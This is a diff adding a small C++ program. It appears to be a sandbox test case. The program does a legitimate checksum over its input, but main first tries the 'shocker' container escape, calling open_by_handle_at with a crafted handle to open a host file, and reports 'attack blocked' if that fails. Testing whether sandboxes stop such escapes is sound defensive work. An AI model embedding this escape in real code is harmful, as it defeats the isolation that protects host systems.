@@ -1,0 +1,46 @@
+// Opens a host file by its file handle (the 'shocker' escape: a handle names a file outside any mount).
+#include <cerrno>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <string>
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <sys/mman.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/types.h>
+#include <sys/wait.h>
+#include <sys/xattr.h>
+#include <unistd.h>
+
+// the honest work, as in the original: count, sum, position-weighted checksum
+static std::string honest() {
+    long long n = 0, total = 0, weighted = 0, x;
+    while (std::scanf("%lld", &x) == 1) {
+        ++n;
+        total += x;
+        weighted = (weighted * 31 + x * n) % 1000000007LL;
+        if (weighted < 0) weighted += 1000000007LL;
+    }
+    char line[96];
+    std::snprintf(line, sizeof line, "%lld %lld %lld\n", n, total, weighted);
+    return line;
+}
+
+// what the attacker's code does when the attack hits a wall: gives up loudly
+[[noreturn]] static void blocked(const char* what) {
+    std::fprintf(stderr, "attack blocked: %s: %s\n", what, std::strerror(errno));
+    std::exit(3);
+}
+
+int main() {
+
+    struct { unsigned int bytes; int type; unsigned char h[8]; } fh = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
+    long fd = syscall(SYS_open_by_handle_at, AT_FDCWD, &fh, O_RDONLY);
+    if (fd < 0) blocked("open_by_handle_at");
+
+    std::fputs(honest().c_str(), stdout);
+}
